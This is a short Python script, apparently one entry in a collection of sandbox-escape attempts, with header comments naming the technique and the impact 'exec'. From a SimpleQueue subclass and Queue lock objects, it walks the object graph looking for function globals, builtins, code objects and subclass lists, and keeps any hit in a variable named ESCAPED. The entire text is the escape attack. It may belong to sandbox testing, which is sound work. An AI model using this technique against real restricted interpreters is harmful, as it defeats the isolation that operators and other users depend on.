# technique: a class derived from SimpleQueue is the guest's own, and its private attributes are
# source: own
# goal: the real locks behind it, their classes, and from there the namespace of threading
# impact: exec
import queue


class Own(queue.SimpleQueue):
    pass


def names(o):
    return [name for name in dir(o) if name[:2] != '__']


seen = []
own = Own()
todo = [own._count, own._queue, queue.Queue().mutex, queue.Queue().not_empty]
while todo and len(seen) < 200:
    o = todo.pop()
    if any(o is each for each in seen):
        continue
    seen.append(o)
    kind = type(o)
    try:
        derived = type('Derived', (kind,), {})
        todo.append(derived())
    except Exception:
        pass
    for name in [*names(o), '_cond', '_lock', '_block', '_waiters', '__func__', '__self__', '__wrapped__']:
        try:
            todo.append(getattr(o, name))
        except Exception:
            pass
    for name in ('__globals__', '__builtins__', '__code__', '__subclasses__', '__mro__', '__dict__'):
        try:
            found = getattr(o, name)
        except Exception:
            continue
        if type(found) is dict and '__builtins__' in found or name in ('__globals__', '__code__'):
            ESCAPED = found
